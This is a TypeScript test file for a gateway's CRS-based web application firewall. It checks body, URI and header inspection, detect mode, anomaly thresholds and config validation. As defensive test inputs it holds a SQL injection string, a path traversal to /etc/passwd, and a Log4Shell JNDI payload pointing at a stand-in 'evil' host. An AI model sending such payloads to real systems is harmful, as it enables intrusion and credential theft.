/**
 * The CRS stage (src/waf/crs/stage.ts) on request contexts: the forward-auth shape is judged on
 * URI and headers only (its body is never read), detect mode never refuses, the default rules
 * stay the built-in ones when `waf.crs` is absent.
 */
import t from 'tap';
import pino from 'pino';
import { validateConfig } from '../../../src/config/validate.js';
import { GatewayMetrics } from '../../../src/observe/metrics.js';
import { BufferedBody } from '../../../src/proxy/request-body.js';
import { RequestCtx } from '../../../src/pipeline/context.js';
import { importCrsEngine, WafPolicy } from '../../../src/waf/compile.js';
import { CrsStage } from '../../../src/waf/crs/stage.js';
import { WafStage } from '../../../src/waf/stage.js';
import { CRS_ABSENT, crsDir } from '../../helpers/crs.js';

const dir = crsDir();
const engine = await importCrsEngine();
const skip = dir === null ? CRS_ABSENT : false;

function policy(waf: Record<string, unknown>) {
  const cfg = validateConfig({
    listeners: { http: { host: '127.0.0.1', port: 0 } },
    waf,
    routes: [{ name: 'r', match: {}, auth: 'none', upstream: 'http://127.0.0.1:9' }, { name: 'd', match: { path: '/d' }, auth: 'none', upstream: 'http://127.0.0.1:9', waf: 'detect' }],
  });
  const p = new WafPolicy(cfg, { logger: pino({ level: 'silent' }), metrics: new GatewayMetrics({ defaultMetrics: false }) }, engine);
  return { stage: (i: number) => p.stageFor(cfg.routes[i]!)! };
}

function ctx(shape: 'edge' | 'forward-auth', query: string, headers: Record<string, string>, body?: string): RequestCtx {
  const h = { host: 'shop.example', 'user-agent': 'Mozilla/5.0', accept: '*/*', ...headers };
  const c = new RequestCtx('id', '192.0.2.1', shape, body === undefined ? 'GET' : 'POST', 'shop.example', '/api', query, 'http', h, 0n);
  c.rawHeaders = Object.entries(h).flat();
  if (body !== undefined) c.body = new BufferedBody(Buffer.from(body));
  return c;
}

void t.test('without waf.crs the built-in rules run', async (t) => {
  t.ok(policy({}).stage(0) instanceof WafStage);
});

void t.test('forward-auth: URI and header rules, never the body', { skip }, async (t) => {
  const s = policy({ crs: { rulesDir: dir! } }).stage(0);
  t.ok(s instanceof CrsStage);
  const json = { 'content-type': 'application/json', 'content-length': '60' };
  const attackBody = '{"q":"1\' UNION SELECT password FROM users--"}';
  const edge = await s.handle(ctx('edge', '', json, attackBody));
  t.equal(edge.kind, 'respond', 'the edge reads the body and refuses');
  const fa = ctx('forward-auth', '', json, attackBody);
  t.equal((await s.handle(fa)).kind, 'continue', 'forward auth never reads the body');
  const faUri = await s.handle(ctx('forward-auth', 'file=../../../../etc/passwd', {}));
  t.equal(faUri.kind, 'respond', 'but judges the URI');
  const faHeader = ctx('forward-auth', '', { 'x-api-version': '${jndi:ldap://evil/a}' });
  t.equal((await s.handle(faHeader)).kind, 'respond', 'and the headers');
  t.ok(faHeader.wafRules!.includes(944150));
});

void t.test('detect mode records and continues', { skip }, async (t) => {
  const s = policy({ crs: { rulesDir: dir! } }).stage(1);
  const c = ctx('edge', 'file=../../../../etc/passwd', {});
  t.equal((await s.handle(c)).kind, 'continue');
  t.ok(c.wafRules!.includes(930100));
  t.ok(c.wafScore! >= 5);
});

void t.test('waf.crs.anomalyThreshold reaches CRS', { skip }, async (t) => {
  const s = policy({ crs: { rulesDir: dir!, anomalyThreshold: 100 } }).stage(0);
  const c = ctx('edge', 'file=../../../../etc/passwd', {});
  t.equal((await s.handle(c)).kind, 'continue', 'a score under 100 passes');
  t.ok(c.wafScore! >= 5 && c.wafScore! < 100);
});

void t.test('waf.exclusions (built-in ids and targets) is refused beside waf.crs, naming the key', async (t) => {
  t.throws(() => validateConfig({
    listeners: { http: { host: '127.0.0.1', port: 0 } },
    waf: { crs: { rulesDir: '/x' }, exclusions: [{ rules: [942100] }] },
    routes: [{ name: 'r', match: {}, auth: 'none', upstream: 'http://127.0.0.1:9' }],
  }), { message: /waf\.exclusions: applies to the built-in rules; with waf\.crs, tune CRS with waf\.crs\.exclusions/ });
  t.throws(() => validateConfig({
    listeners: { http: { host: '127.0.0.1', port: 0 } },
    waf: { crs: { rulesDir: '' } },
    routes: [{ name: 'r', match: {}, auth: 'none', upstream: 'http://127.0.0.1:9' }],
  }), { message: /waf\.crs\.rulesDir/ });
});
